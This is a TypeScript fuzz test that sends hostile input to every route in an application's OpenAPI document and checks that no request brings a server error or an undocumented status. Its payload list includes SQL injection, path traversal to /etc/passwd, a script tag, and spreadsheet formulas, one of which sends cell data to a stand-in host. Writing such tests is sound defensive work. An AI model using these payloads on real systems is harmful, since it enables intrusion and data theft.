import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { signedInAs } from '../test/people.ts';
import { useTestApp } from '../test/test-app.ts';

/**
 * Hostile input on every route the OpenAPI document lists, as a signed-out caller, a member, regional staff
 * and an admin (issue 7): whatever arrives, the answer is never a 5xx, and its status is one the route's
 * OpenAPI description lists. Driven by /api/openapi.json, as an
 * outside fuzzer is, so a new route is fuzzed without touching this file.
 */
const t = useTestApp();

interface Parameter {
  name: string;
  in: 'path' | 'query';
}
interface Operation {
  responses: Record<string, unknown>;
  parameters?: Parameter[];
  requestBody?: { content: { 'application/json': { schema: { properties?: Record<string, unknown> } } } };
}

const HOSTILE_TEXT = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u0001\u0007\u001b[31m',
  '\r\n\t',
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "＝cmd|' /C calc'!A0",
  '../../../etc/passwd',
  '%00%ff%',
  '<script>alert(1)</script>',
  '😀'.repeat(50),
  '',
  ' ',
];
const HOSTILE_NUMBER = [
  '0x1',
  '1e3',
  '-1',
  '0',
  '2147483648',
  '99999999999999999999',
  'NaN',
  'Infinity',
  '1.5',
  ' 5',
  '+5',
  '01',
];
const LONG = 'x'.repeat(100_000);

const text = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT, ...HOSTILE_NUMBER),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
// Anything JSON can carry where a field is expected: wrong types, nesting, huge values.
const jsonValue = fc.oneof(
  text,
  fc.constant(LONG),
  fc.integer(),
  fc.double(),
  fc.constantFrom(2147483648, -1, 0, Number.MAX_SAFE_INTEGER, 1e308),
  fc.boolean(),
  fc.constant(null),
  fc.array(text, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), text, { maxKeys: 3 }),
);

/** Percent-encoded as sent: a lone surrogate as the bytes a careless client would send (CESU-8). */
function encodePathValue(value: string): string {
  return value.replace(/[\s\S]/gu, (c) => {
    try {
      return encodeURIComponent(c);
    } catch {
      const u = c.charCodeAt(0);
      return `%${(0xe0 | (u >> 12)).toString(16)}%${(0x80 | ((u >> 6) & 0x3f)).toString(16)}%${(0x80 | (u & 0x3f)).toString(16)}`.toUpperCase();
    }
  });
}

/** One request for an operation: every path and query parameter and body field hostile, or left out. */
function requestFor(path: string, op: Operation) {
  const params = op.parameters ?? [];
  const fields = Object.keys(op.requestBody?.content['application/json'].schema.properties ?? {});
  return fc
    .record({
      path: fc.tuple(...params.filter((p) => p.in === 'path').map(() => text)),
      query: fc.tuple(
        ...params.filter((p) => p.in === 'query').map(() => fc.option(text, { nil: undefined })),
      ),
      body: fc.oneof(
        fc.tuple(...fields.map(() => fc.option(jsonValue, { nil: undefined }))),
        fc.constant('not an object' as const),
      ),
      extraQuery: fc.option(fc.tuple(fc.string({ maxLength: 8 }), text), { nil: undefined }),
    })
    .map(({ path: pathValues, query, body, extraQuery }) => {
      let i = 0;
      const url = path.replace(/\{\w+\}/g, () => encodePathValue(pathValues[i++] ?? ''));
      const search = new URLSearchParams();
      params
        .filter((p) => p.in === 'query')
        .forEach((p, j) => {
          if (query[j] !== undefined) search.set(p.name, query[j]);
        });
      if (extraQuery) search.set(extraQuery[0], extraQuery[1]);
      const json =
        body === 'not an object'
          ? body
          : Object.fromEntries(fields.map((f, j) => [f, body[j]]).filter(([, v]) => v !== undefined));
      return { url: `${url}${search.size ? `?${search}` : ''}`, json };
    });
}

let callers: { name: string; headers: Record<string, string> }[] = [];
let operations: { method: string; path: string; op: Operation }[] = [];

beforeAll(async () => {
  const clp = await t.db.prisma.clp.findFirstOrThrow({ where: { constituency: { code: 'E14001107' } } });
  callers = [
    { name: 'signed out', headers: {} },
    { name: 'member', headers: (await signedInAs(t, 'member', { clpId: clp.id })).headers },
    {
      name: 'regional staff',
      headers: (await signedInAs(t, 'regional_staff', { regionCode: 'E12000001' })).headers,
    },
    { name: 'admin', headers: (await signedInAs(t, 'admin')).headers },
  ];
  const doc = (await t.api.get('/api/openapi.json').expect(200)).body as {
    paths: Record<string, Record<string, Operation>>;
  };
  operations = Object.entries(doc.paths).flatMap(([path, ops]) =>
    Object.entries(ops).map(([method, op]) => ({ method, path, op })),
  );
});

describe('hostile input on every route', () => {
  it('never gets a 5xx or a status its route does not document, for any caller', async () => {
    expect(operations.length).toBeGreaterThan(20);
    const failures: string[] = [];
    for (const { method, path, op } of operations) {
      // Signing out ends the caller's session for the rest of the run: fuzzed last, by the fuzzer alone.
      if (path === '/api/auth/sign-out') continue;
      for (const caller of callers) {
        await fc.assert(
          fc.asyncProperty(requestFor(path, op), async ({ url, json }) => {
            const req = t.api[method as 'get'](url).set(caller.headers);
            const res = await (method === 'get' || method === 'delete' ? req : req.send(json as object));
            // 414 and 431 come from Node's HTTP parser (a URL over its limits), before any route.
            const documented = String(res.status) in op.responses || [414, 431].includes(res.status);
            if (res.status >= 500 || !documented) {
              failures.push(
                `${caller.name}: ${method.toUpperCase()} ${url.slice(0, 200)} ${JSON.stringify(json).slice(0, 200)} → ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`,
              );
            }
            return true;
          }),
          { numRuns: 12, seed: 20261202 },
        );
      }
    }
    expect(failures).toEqual([]);
  }, 600_000);
});
